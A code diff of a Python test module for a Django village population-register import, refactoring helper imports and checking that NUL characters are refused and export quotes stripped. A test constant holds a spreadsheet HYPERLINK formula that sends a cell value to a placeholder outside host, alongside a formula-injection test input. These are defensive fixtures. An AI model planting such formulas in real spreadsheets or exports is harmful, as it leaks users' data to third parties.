@@ -12,8 +12,8 @@ from balai.penduduk.opensid import KOLOM
 
 from .factories import make_keluarga, make_penduduk
 
-# A writing import on PostgreSQL looks the register up on a second connection, which sees only
-# committed rows (impor.SambunganSamping): these tests commit instead of rolling back.
+# A writing import on PostgreSQL saves its progress through a second connection, which sees only
+# committed rows (impor.job.Progress): these tests commit instead of rolling back.
 pytestmark = pytest.mark.django_db(transaction=True)
 
 FORMULA = '=HYPERLINK("http://x.example/?"&B2,"klik")'
@@ -118,12 +118,12 @@ def test_nul_character_in_an_imported_cell_is_refused(desa_a, client_a, warga_fo
 
 @pytest.mark.parametrize("tempat", ["Purba\x00lingga", "'=1+1"])
 def test_text_cells_with_nul_are_refused_and_export_quotes_are_removed(tempat):
-    from balai.penduduk import impor
+    from balai.penduduk.impor import format, konversi
 
-    plan = impor._rencana(impor.peta_kolom(KOLOM, 0), 0)
+    plan = konversi.rencana(format.peta_kolom(KOLOM, 0), 0)
     cells = [""] * len(KOLOM)
     cells[KOLOM.index("tempatlahir")] = tempat
-    values, errors = impor.ubah_baris(cells, plan)
+    values, errors = konversi.ubah_baris(cells, plan)
     column_errors = [e for e in errors if e[0] == "tempatlahir"]
     if "\x00" in tempat:
         assert column_errors and "NUL" in column_errors[0][2]
